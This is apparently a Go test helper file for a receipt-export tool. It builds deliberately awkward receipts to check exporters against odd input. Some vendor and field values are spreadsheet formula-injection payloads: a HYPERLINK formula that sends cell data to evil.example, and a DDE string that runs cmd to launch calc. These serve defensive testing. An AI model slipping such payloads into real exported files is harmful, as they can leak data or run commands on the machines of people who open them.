package importers

import (
	"bytes"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spindle-receipts/spindle/internal/export"
	"github.com/spindle-receipts/spindle/internal/receipt"
)

var amountOf = receipt.MustAmount

func march(d int) receipt.Date { return receipt.Date{Year: 2026, Month: time.March, Day: d} }

const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// nasty are receipts with all that importers trip over.
func nasty() []export.Row {
	tax := func(rate, base, total string) receipt.TaxLine {
		return receipt.TaxLine{Name: "VAT", Rate: amountOf(rate), Base: amountOf(base), Total: amountOf(total)}
	}
	fields := []receipt.Fields{
		{Vendor: "Office World", InvoiceNumber: "OW-1234", Date: march(15), Currency: "GBP", Subtotal: amountOf("1050"), Tax: amountOf("210"), Total: amountOf("1260.00"), Category: "Office",
			TaxLines: []receipt.TaxLine{tax("20", "1050", "210")}, PaymentType: "visa", PaymentDigits: "0073",
			LineItems: []receipt.LineItem{{Description: "=1+1 Paper", Quantity: amountOf("3"), Price: amountOf("350"), Total: amountOf("1050")}}},
		{Vendor: "Office World", InvoiceNumber: "OW-1235", Date: march(16), Currency: "GBP", Subtotal: amountOf("-10"), Tax: amountOf("-2"), Total: amountOf("-12"), TaxLines: []receipt.TaxLine{tax("20", "-10", "-2")}},
		{Vendor: "Corner Shop", InvoiceNumber: "7", Date: march(17), Currency: "GBP", Subtotal: amountOf("30"), Tax: amountOf("3"), Total: amountOf("33"),
			TaxLines: []receipt.TaxLine{tax("20", "10", "2"), tax("5", "20", "1")}},
		{Vendor: "Diner", Date: march(18), Currency: "USD", Subtotal: amountOf("40"), Discount: amountOf("5"), Tax: amountOf("2.80"), Tip: amountOf("6"), Total: amountOf("43.80"), TaxLines: []receipt.TaxLine{tax("8", "35", "2.80")}},
		{Vendor: "株式会社 ローソン", Date: march(19), Currency: "JPY", Subtotal: amountOf("1000"), Tax: amountOf("100"), Total: amountOf("1100"), TaxLines: []receipt.TaxLine{tax("10", "1000", "100")}},
		{Vendor: "Souk", Date: march(20), Currency: "KWD", Total: amountOf("1.505")},
		{Vendor: "Café Zürich ☕", Date: march(21), Currency: "EUR", Subtotal: amountOf("4.1"), Tax: amountOf("0.41"), Total: amountOf("4.51"), TaxLines: []receipt.TaxLine{tax("10", "4.10", "0.41")}},
		{Vendor: "-", Date: march(22), Currency: "EUR", Total: amountOf("5")},
		{Vendor: hyperlink, InvoiceNumber: "-2+3", Date: march(23), Currency: "EUR", Total: amountOf("6"), Notes: "+44 20 7946 0000"},
		{Vendor: "@SUM(1+1)*cmd|' /C calc'!A0", Date: march(24), Currency: "EUR", Total: amountOf("7")},
		{Vendor: "Tab\tand\nline; \"quoted\", 'single' | pipe \\ end", InvoiceNumber: "A;B,C", Date: march(25), Currency: "EUR", Total: amountOf("8")},
		{Vendor: "Very long " + strings.Repeat("name ", 60), Date: march(26), Currency: "EUR", Total: amountOf("9")},
		{Vendor: "長い", Date: march(26), Currency: "JPY", Subtotal: amountOf("9"), Total: amountOf("9"), // longer than any line should be
			LineItems: []receipt.LineItem{{Description: strings.Repeat("長い名前", 500), Total: amountOf("9")}}},
		{Date: march(27), Currency: "EUR", Total: amountOf("10")},       // no vendor
		{Vendor: "No date", Currency: "EUR", Total: amountOf("11")},     // none
		{Vendor: "No currency", Date: march(28), Total: amountOf("12")}, // none
		{Vendor: "No total", Date: march(29), Currency: "EUR"},          // none
	}
	var rows []export.Row
	for i, f := range fields {
		rows = append(rows, export.Row{Receipt: receipt.Receipt{ID: int64(i + 1), Status: receipt.Ready, Engine: receipt.Local, Fields: f,
			Originals: []receipt.Original{{Path: "in/=scan.jpg", Kind: "jpeg"}}}})
	}
	return append(rows, export.Row{Receipt: receipt.Receipt{ID: int64(len(rows) + 1), Status: receipt.Failed, Reasons: []string{"The file is empty."}, Originals: []receipt.Original{{Path: "empty.jpg"}}}})
}

func all(rows []export.Row) export.Rows {
	return func(yield func(export.Row, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
}

// exported is what a profile made of the nasty receipts.
type exported struct {
	plan  *export.Plan
	paths []string // of its files
	rows  []export.Row
}

// write exports the nasty receipts by a profile, as a person would.
func write(t *testing.T, profile string, c export.Choices) exported {
	t.Helper()
	p, err := export.Find(profile)
	if err != nil {
		t.Fatal(err)
	}
	rows := nasty()
	plan, err := export.Rehearse(t.Context(), p, c, all(rows))
	if err != nil {
		t.Fatal(err)
	}
	if err := plan.Blocked(); err != nil {
		t.Fatal(err)
	}
	e := exported{plan: plan, rows: rows}
	dir := t.TempDir()
	for i, f := range plan.Files {
		path := filepath.Join(dir, f.Name)
		if err := export.File(t.Context(), path, func(w io.Writer) error { return plan.Write(t.Context(), i, w) }); err != nil {
			t.Fatal(err)
		}
		e.paths = append(e.paths, path)
	}
	return e
}

// in are the receipts in file i.
func (e exported) in(i int) []receipt.Receipt {
	var list []receipt.Receipt
	for place := range e.plan.Written() {
		if place.File == i {
			list = append(list, e.rows[place.Receipt-1].Receipt)
		}
	}
	return list
}

// sums are what receipts come to by currency.
type sums map[string]receipt.Amount

func (s sums) add(currency string, a receipt.Amount) { s[currency] = s[currency].Add(a) }

// sumOf adds up one figure of receipts.
func sumOf(list []receipt.Receipt, figure func(receipt.Fields) receipt.Amount) sums {
	s := sums{}
	for _, r := range list {
		s.add(r.Fields.Currency, figure(r.Fields))
	}
	return s
}

func total(f receipt.Fields) receipt.Amount { return f.Total }
func owed(f receipt.Fields) receipt.Amount  { return f.Total.Neg() }
func tax(f receipt.Fields) receipt.Amount   { return f.Tax }

// equal tells whether both come to the same; what is not there is zero.
func (s sums) equal(other sums) bool {
	for currency := range maps.Keys(merged(s, other)) {
		if s[currency].Cmp(other[currency]) != 0 {
			return false
		}
	}
	return true
}

func merged(a, b sums) sums {
	m := maps.Clone(a)
	maps.Copy(m, b)
	return m
}

// atLeast fails when fewer receipts are in the files than must be.
func (e exported) atLeast(t *testing.T, n int) {
	t.Helper()
	if got := len(slices.Collect(e.plan.Written())); got < n {
		t.Errorf("%d receipts were exported, of at least %d: %+v", got, n, e.plan.Problems)
	}
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.TrimPrefix(data, []byte("\uFEFF"))
}
